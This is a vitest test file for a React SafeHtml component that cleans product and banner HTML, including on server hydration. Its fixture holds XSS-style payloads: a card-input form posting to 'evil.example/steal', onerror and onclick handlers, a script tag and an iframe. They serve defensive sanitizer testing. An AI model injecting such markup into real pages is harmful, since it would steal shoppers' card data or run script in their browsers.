import { act, render, screen } from '@testing-library/react';
import { hydrateRoot } from 'react-dom/client';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { SafeHtml } from './SafeHtml';

/** Markup a product text or banner caption may carry if it was stored before the server cleaned it. */
const HOSTILE = [
  '<p>Soft <strong>muslin</strong>, <em>dyed</em> by hand<br>in Jaipur</p>',
  '<ul><li>100% organic cotton</li></ul>',
  '<form action="https://evil.example/steal"><input name="card"><button>Pay now</button></form>',
  '<style>body { display: none }</style>',
  '<img src="x" onerror="alert(1)">',
  '<p style="position:fixed;inset:0" class="overlay">Sale</p>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="/category-page/3" title="Rompers" onclick="alert(2)">Rompers</a>',
  '<script>alert(3)</script>',
].join('');

const UNSAFE_TAGS = ['form', 'input', 'button', 'style', 'img', 'iframe', 'script'];

/** Every element that was ever added under `root`, so that one shown for a moment and removed is still seen. */
function recordAddedElements(root: Node): { added: Element[]; stop: () => void } {
  const added: Element[] = [];
  const observer = new MutationObserver((records) => {
    for (const record of records) {
      for (const node of record.addedNodes) {
        if (node instanceof Element) added.push(node, ...node.querySelectorAll('*'));
      }
    }
  });
  observer.observe(root, { childList: true, subtree: true });
  return { added, stop: () => observer.disconnect() };
}

function expectNothingUnsafe(elements: Iterable<Element>) {
  for (const element of elements) {
    expect(UNSAFE_TAGS, element.outerHTML).not.toContain(element.localName);
    for (const attribute of element.attributes) {
      expect(['href', 'title'], `${attribute.name} on ${element.localName}`).toContain(attribute.name);
    }
  }
}

afterEach(() => {
  document.body.replaceChildren();
});

describe('SafeHtml', () => {
  it('keeps the formatting tags and drops forms, styles, images, frames, scripts and handlers', async () => {
    const { container } = render(<SafeHtml html={HOSTILE} />);
    await screen.findByText('muslin');
    const shown = container.firstElementChild as HTMLElement;
    expectNothingUnsafe(shown.querySelectorAll('*'));
    expect(shown.innerHTML).not.toMatch(/onerror|onclick|style=|class=|display: none|alert/);
    expect(shown.querySelector('strong')?.textContent).toBe('muslin');
    expect(shown.querySelector('li')?.textContent).toBe('100% organic cotton');
    expect(shown.querySelector('a')?.getAttribute('href')).toBe('/category-page/3');
    expect(shown.querySelector('a')?.getAttribute('title')).toBe('Rompers');
  });

  it('never puts the HTML as written in the page, even for a moment before the sanitizer has loaded', async () => {
    const host = document.body.appendChild(document.createElement('div'));
    const record = recordAddedElements(host);
    render(<SafeHtml html={HOSTILE} />, { container: host });
    await screen.findByText('muslin');
    record.stop();
    expect(record.added.some((element) => element.localName === 'strong')).toBe(true);
    expectNothingUnsafe(record.added);
  });

  it("keeps the server's markup when it hydrates, writes nothing over it, and cleans a new text in the browser", async () => {
    // What the server sent: the text cleaned by sanitize-html, told apart here from anything the browser would write.
    const host = document.body.appendChild(document.createElement('div'));
    host.innerHTML = '<div class="text"><p>Cleaned <strong>on the server</strong><br>today</p></div>';
    const serverMarkup = host.innerHTML;
    const paragraph = host.querySelector('p');
    const recoverableErrors: unknown[] = [];
    const consoleError = vi.spyOn(console, 'error');
    const record = recordAddedElements(host);

    const root = await act(async () =>
      hydrateRoot(host, <SafeHtml className="text" html={HOSTILE} />, {
        onRecoverableError: (error) => recoverableErrors.push(error),
      }),
    );
    await act(async () => root.render(<SafeHtml className="text" html={HOSTILE} />));

    expect(host.innerHTML).toBe(serverMarkup);
    expect(host.querySelector('p'), 'the same element, not a copy').toBe(paragraph);
    expect(record.added).toEqual([]);
    expect(recoverableErrors).toEqual([]);
    expect(consoleError).not.toHaveBeenCalled();
    consoleError.mockRestore();

    // A client-side navigation to another product reuses the element: its text is cleaned in the browser.
    await act(async () => root.render(<SafeHtml className="text" html={`<p>Next <b>one</b></p>${HOSTILE}`} />));
    await screen.findByText('one');
    record.stop();
    expect(host.textContent).not.toContain('on the server');
    // SafeHtml's own element (with its class) is new too: a different text is a different element.
    expectNothingUnsafe(record.added.filter((element) => element.parentElement !== host));
    act(() => root.unmount());
  });
});
